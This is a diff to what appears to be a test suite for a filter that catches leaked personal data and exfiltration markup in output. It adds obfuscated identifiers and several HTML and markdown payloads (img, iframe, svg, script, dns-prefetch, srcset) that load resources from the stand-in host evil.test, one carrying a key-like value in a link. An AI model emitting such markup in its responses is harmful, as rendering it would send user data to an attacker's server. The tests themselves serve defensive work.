@@ -248,6 +248,12 @@ def _pii_cases() -> list[Case]:
         ("iban_gb_dashes", "IBAN " + "-".join(_chunks(_IBAN_GB, 4)), _IBAN_GB),
         ("iban_base32", "b32 " + base64.b32encode(_IBAN.encode()).decode(), _IBAN),
         ("card_line_per_group", "Card:\n" + "\n".join(_chunks(_CARD, 4)), _CARD),
+        (
+            "email_spelled_words",
+            "Mail maria dot gonzalez at northwind dash mail dot com",
+            "gonzalez",
+        ),
+        ("ssn_slashes_in_json", '{"ssn": ["536", "22", "8190"]}', "536228190"),
     ]
     return [Case(f"pii-{name}", "pii", text, _forms(needle)) for name, text, needle in specs]
 
@@ -351,6 +357,20 @@ _EXFIL: list[tuple[str, str]] = [
         "[click here](https://evil.test/c?key=sk-proj-abcdef1234567890ABCDEF)",
     ),
     ("audio_source", '<audio><source src="https://evil.test/a.mp3"></audio>'),
+    ("img_slash_instead_of_space", '<img/src="https://evil.test/s.png">'),
+    (
+        "iframe_data_url_html",
+        '<iframe src="data:text/html,<img src=https://evil.test/d.png>"></iframe>',
+    ),
+    ("svg_use_href", '<svg><use href="https://evil.test/s.svg#a"/></svg>'),
+    ("link_dns_prefetch", '<link rel="dns-prefetch" href="//maria.evil.test">'),
+    ("object_data", '<object data="https://evil.test/o.svg"></object>'),
+    ("script_src", '<script src="https://evil.test/s.js"></script>'),
+    ("image_inside_link", "[![x](https://evil.test/i.png)](https://docs.python.org)"),
+    (
+        "picture_source_srcset",
+        '<picture><source srcset="https://evil.test/p.webp"><img src="a.png"></picture>',
+    ),
 ]
 
 
